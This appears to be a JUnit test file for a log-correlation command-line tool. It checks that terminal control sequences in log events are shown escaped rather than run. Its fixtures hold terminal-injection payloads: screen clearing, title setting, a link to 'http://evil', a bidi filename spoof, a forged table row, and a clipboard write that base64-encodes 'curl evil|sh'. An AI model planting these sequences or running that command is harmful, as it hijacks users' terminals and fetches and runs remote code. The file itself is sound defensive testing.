package dev.tripline.cli;

import dev.tripline.output.TerminalText;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Log text that would drive the terminal (clear screen, OSC 0 title, OSC 8 link, OSC 52 clipboard, CR, bidi
 * override, a newline forging a table row) is printed as visible escapes in every human-readable output.
 */
class TerminalInjectionTest {
    private static final String CLEAR = "\u001b[2J\u001b[H";
    private static final String TITLE = "\u001b]0;pwned\u0007";
    private static final String LINK = "\u001b]8;;http://evil\u001b\\click\u001b]8;;\u001b\\";
    private static final String CLIPBOARD = "\u001b]52;c;Y3VybCBldmlsfHNo\u0007";
    private static final String FAKE_ROW = "\r\n2024-03-05T09:00:00Z     low       detection   ws99  CORP\\nobody  nothing here";

    @TempDir Path tmp;

    @Test void escapeShowsControlAndBidiCharactersAndKeepsEverythingElse() {
        assertThat(TerminalText.escape("a\u001b[2Jb\rc\nd\te\u202ef\u0085g\u200bh\u2066i\u007f"))
                .isEqualTo("a\\x1b[2Jb\\rc\\nd\\te\\u202ef\\x85g\\u200bh\\u2066i\\x7f");
        String ordinary = "C:\\Windows\\System32\\net.exe group \"Domain Admins\" /domain — Système 日本語 🙂";
        assertThat(TerminalText.escape(ordinary)).isSameAs(ordinary);
        assertThat(TerminalText.escape((String) null)).isNull();
    }

    private Path hostileEvents() throws Exception {
        String cmd = "net group \"domain admins\" /domain " + CLEAR + TITLE + LINK + CLIPBOARD + "\u202egpj.exe" + FAKE_ROW;
        String line = "{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Computer\":" + json("ws01" + TITLE)
                + ",\"UtcTime\":\"2024-03-05 09:00:00.000\",\"Image\":\"C:\\\\Windows\\\\System32\\\\net.exe\",\"CommandLine\":" + json(cmd)
                + ",\"User\":" + json("CORP\\alice" + CLEAR) + ",\"ProcessId\":\"42\",\"ParentImage\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\"}\n"
                // a line the run rejects, with a control sequence in it, so the summary quotes hostile text too
                + "{\"EventID\":1,\"Computer\":\"" + "\u001b]0;x\u0007" + "\n";
        Path events = tmp.resolve("hostile.jsonl");
        Files.writeString(events, line, StandardCharsets.UTF_8);
        return events;
    }

    private static String json(String s) {
        StringBuilder b = new StringBuilder("\"");
        for (char c : s.toCharArray()) {
            if (c == '"' || c == '\\') b.append('\\').append(c);
            else if (c < 0x20 || c > 0x7e) b.append(String.format("\\u%04x", (int) c));
            else b.append(c);
        }
        return b.append('"').toString();
    }

    private static void assertNoTerminalControl(String output) {
        assertThat(output).doesNotContain("\u001b", "\u0007", "\r", "\u202e");
        assertThat(output.lines()).noneMatch(l -> l.startsWith("2024-03-05T09:00:00Z     low"));
    }

    @Test void tableSummariesAndStderrShowHostileTextEscaped() throws Exception {
        Path events = hostileEvents();
        CliRun run = CliRun.of("correlate", "--format", "table", "--summary", events.toString());

        assertThat(run.exit()).as(run.err()).isEqualTo(ExitCodes.OK);
        assertNoTerminalControl(run.out());
        assertNoTerminalControl(run.err());
        assertThat(run.out()).contains("\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07", "\\x1b]52;c;", "\\u202egpj.exe\\r\\n2024-03-05T09:00:00Z")
                .contains("CORP\\alice\\x1b[2J");
        assertThat(run.err()).contains("triage summary").contains("\\x1b]0;pwned\\x07").contains("1 rejected");
    }

    /** Near miss: JSON Lines output stays JSON, escaped the JSON way, not doubly escaped. */
    @Test void jsonLinesKeepJsonEscaping() throws Exception {
        CliRun run = CliRun.of("correlate", hostileEvents().toString());
        assertThat(run.alertLines()).isPositive();
        assertThat(run.out()).contains("\\u001B[2J").doesNotContain("\\x1b").doesNotContain("\u001b");
    }
}
